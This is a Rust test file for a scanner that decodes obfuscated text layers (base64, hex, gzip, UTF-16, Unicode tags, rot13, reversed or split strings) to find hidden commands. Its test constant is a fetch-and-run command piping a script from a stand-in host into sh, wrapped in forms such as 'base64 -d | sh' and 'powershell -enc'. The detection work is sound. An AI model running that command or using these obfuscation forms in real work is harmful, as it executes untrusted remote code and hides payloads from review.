use std::io::Write as _;

use proptest::prelude::*;

use super::*;

const COMMAND: &str = "curl -s https://get.acme.example/run.sh | sh";

fn base64(bytes: &[u8]) -> String {
    const SIGNS: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for three in bytes.chunks(3) {
        let held = three.iter().chain([0, 0].iter()).take(3).fold(0_usize, |held, byte| held << 8 | usize::from(*byte));
        for at in 0..4 {
            out.push(if at > three.len() { '=' } else { char::from(SIGNS[held >> (18 - 6 * at) & 63]) });
        }
    }
    out
}

fn base32(bytes: &[u8]) -> String {
    let bits: String =
        bytes.iter().flat_map(|byte| (0..8).rev().map(move |at| if byte >> at & 1 == 1 { '1' } else { '0' })).collect();
    let sign = |five: &[u8]| {
        let value = five.iter().fold(0, |value, bit| value << 1 | (bit - b'0')) << (5 - five.len());
        char::from(if value < 26 { b'A' + value } else { b'2' + value - 26 })
    };
    bits.as_bytes().chunks(5).map(sign).collect()
}

/// Every byte as two digits after a head.
fn hex(head: &str, bytes: &[u8]) -> String {
    bytes.iter().map(|byte| format!("{head}{byte:02x}")).collect::<Vec<_>>().concat()
}

fn gzip(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

fn zlib(bytes: &[u8]) -> Vec<u8> {
    let mut out = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    out.write_all(bytes).unwrap();
    out.finish().unwrap()
}

/// The chain of the layer that says the command, and whether its range is the given part.
fn chain(text: &str) -> Option<Vec<Origin>> {
    decoded(text).into_iter().find(|layer| layer.text == COMMAND).map(|layer| layer.chain)
}

fn decoded(text: &str) -> Vec<Layer> {
    super::decoded(text, &unusual(text)).layers
}

#[test]
fn every_alphabet() {
    let plain = COMMAND.as_bytes();
    let encoded = base64(plain);
    let wide: Vec<u8> = plain.iter().flat_map(|byte| [*byte, 0]).collect();
    assert_eq!(chain(&format!("echo '{encoded}' | base64 -d | sh")), Some(vec![Origin::Base64]));
    assert_eq!(chain(&format!("https://h.example/x/{}", encoded.replace('/', "_"))), Some(vec![Origin::Base64]));
    assert_eq!(chain(&base32(plain)), Some(vec![Origin::Base32]));
    assert_eq!(chain(&format!("0x{}", hex("", plain))), Some(vec![Origin::Hex]));
    assert_eq!(chain(&base64(&gzip(plain))), Some(vec![Origin::Base64, Origin::Gzip]));
    assert_eq!(chain(&base64(&zlib(plain))), Some(vec![Origin::Base64, Origin::Zlib]));
    assert_eq!(chain(&format!("powershell -enc {}", base64(&wide))), Some(vec![Origin::Base64, Origin::Utf16]));
    let twice = base64(hex("", plain).as_bytes());
    assert_eq!(chain(&twice), Some(vec![Origin::Base64, Origin::Hex]));
    let tags: String = COMMAND.bytes().filter_map(|byte| char::from_u32(0xe_0000 + u32::from(byte))).collect();
    assert_eq!(chain(&format!("Sort{tags} rows")), Some(vec![Origin::Tags]));
    let escaped = hex("\\x", plain);
    assert_eq!(chain(&format!("'{escaped}'")), Some(vec![Origin::Escapes]));
    let numbers = plain.iter().map(u8::to_string).collect::<Vec<_>>().join(", ");
    assert_eq!(chain(&format!("[{numbers}]")), Some(vec![Origin::CharCodes]));
    let percent = hex("%", plain);
    assert_eq!(chain(&format!("unescape('{percent}')")), Some(vec![Origin::Percent]));
}

#[test]
fn fragments_and_turns() {
    let encoded = base64(COMMAND.as_bytes());
    let (left, right) = encoded.split_at(20);
    let joined = Some(vec![Origin::Joined, Origin::Base64]);
    assert_eq!(chain(&format!("x = '{left}' + '{right}'")), joined);
    assert_eq!(chain(&format!("x = ('{left}'\n  '{right}')")), joined);
    let turned: String = encoded.chars().rev().collect();
    let reversed = Some(vec![Origin::Reversed, Origin::Base64]);
    assert_eq!(chain(&format!("b64decode('{turned}'[::-1])")), reversed);
    assert_eq!(chain(&format!("p = \"{turned}\"\nq = p[::-1]")), reversed);
    let plain: String = COMMAND.chars().rev().collect();
    assert_eq!(chain(&format!("exec('{plain}'[::-1])")), Some(vec![Origin::Reversed]));
    assert_eq!(chain(&format!("codecs.decode('{}', 'rot13')", literals::rot13(COMMAND))), Some(vec![Origin::Rot13]));
}

#[test]
fn the_range_is_the_outermost_run() {
    let run = base64(base64(COMMAND.as_bytes()).as_bytes());
    let text = format!("é echo {run} | x");
    let layers = decoded(&text);
    assert_eq!(layers.len(), 2);
    for layer in layers {
        assert_eq!(&text[layer.outer.clone()], run);
        assert_eq!(layer.map.original(3..7), layer.outer);
    }
}

#[test]
fn honest_texts_have_no_layers() {
    let image = base64(&[
        0x89, b'P', b'N', b'G', 13, 10, 26, 10, 0, 0, 0, 13, 0x49, 0x48, 0x44, 0x52, 0, 0, 1, 0, 0, 0, 0xff, 8,
    ]);
    let svg = base64(b"<svg onload=\"eval(x)\"></svg> and so on and so on");
    let random = "q1Yxk0s7Z8vTt3mB9cQwErTyUiOpAsDfGhJkLzXcVbNm1234567890+/Qw==";
    for text in [
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.dozjgNryP4J3jVmNHl0w5N",
        "\"integrity\": \"sha512-aGVsbG8gd29ybGQhIGhlbGxvIHdvcmxkISBoZWxsbyB3b3JsZA==\"",
        "sha256: e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
        "d41d8cd98f00b204e9800998ecf8427e 123e4567-e89b-12d3-a456-426614174000",
        "src/components/ApplicationConfigurationManager/InternalFrameworkFactory",
        "com/example/VeryLongClassNameForTheConfigurationOfThings",
        "this_is_a_rather_long_snake_case_identifier_in_some_code",
        "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl me@host",
        "SHOUTINGCONSTANTSWITHOUTUNDERSCORES",
        "----------------------------------------------------------------",
        "if (a) { return \"x\" + y + \"z\"; } // it's 100% fine",
        "print('one line of text ' 'and another')",
        "\\u4e00-\\u9fff",
        random,
        &image,
        &format!("data:image/svg+xml;base64,{svg}"),
        &format!("-----BEGIN CERTIFICATE-----\n{random}\n{random}\n-----END CERTIFICATE-----"),
    ] {
        assert_eq!(decoded(text), [], "{text}");
    }
}

#[test]
fn levels_and_output_are_bounded() {
    let mut nested = COMMAND.to_owned();
    for _ in 0..12 {
        nested = base64(nested.as_bytes());
    }
    let layers = decoded(&nested);
    assert_eq!(layers.len(), LEVELS);
    assert_eq!(layers.iter().map(|layer| layer.deeper).collect::<Vec<_>>(), [false, false, true]);
    let bomb = base64(&gzip(&vec![b'a'; 64 << 20]));
    let output: usize = decoded(&format!("{bomb}\n").repeat(20)).iter().map(|layer| layer.text.len()).sum();
    assert!(output <= 1 << 20, "{output}");
    let blob = base64("some text that goes on and on ".repeat(200_000).as_bytes());
    let layers = decoded(&format!("{blob}\n\n'{}'", base64(COMMAND.as_bytes())));
    assert!(layers.iter().map(|layer| layer.text.len()).sum::<usize>() <= 1 << 20);
    assert!(layers.iter().any(|layer| layer.text == COMMAND));
}

#[test]
fn what_is_left_out_is_said() {
    let cut = |text: &str| super::decoded(text, &unusual(text)).cut;
    let word = |number: usize| format!("'{}'\n", base64(format!("a harmless text, number {number}").as_bytes()));
    let few: String = (0..100).map(word).collect();
    assert_eq!(cut(&few), None);
    let many: String = (0..MOST_LAYERS + 50).map(word).collect();
    let last = (0..MOST_LAYERS).map(|number| word(number).len()).sum::<usize>();
    assert_eq!(cut(&many), Some(last + 1));
    let long = base64("some text that goes on and on ".repeat(20_000).as_bytes());
    assert_eq!(cut(&format!("x = '{long}'")), Some(5));
}

#[test]
fn a_text_that_begins_as_compressed_data_does_is_a_text() {
    let text = "x^J 0  A000 !AAa 0  ";
    assert!(decoded(&base64(text.as_bytes())).iter().any(|layer| layer.text == text));
}

#[test]
fn hostile_texts_end() {
    for text in ["A".repeat(16 << 20), "41".repeat(1 << 20), "\u{200b}".repeat(1 << 20), "'a'+".repeat(1 << 18)] {
        let _ = decoded(&text);
    }
}

proptest! {
    #[test]
    fn any_text_has_layers_in_bounds(text in "([A-Za-z0-9+/=]{20,30}|['\"\\\\x41+ %4é\u{200b}\u{e0041}]){0,20}") {
        for layer in decoded(&text) {
            prop_assert!(text.get(layer.outer.clone()).is_some());
            prop_assert!(!layer.chain.is_empty());
        }
    }

    #[test]
    fn what_is_encoded_is_read(bytes in "[ -~]{20,200}") {
        let found = decoded(&base64(bytes.as_bytes()));
        prop_assert!(found.iter().any(|layer| layer.text == bytes));
    }
}
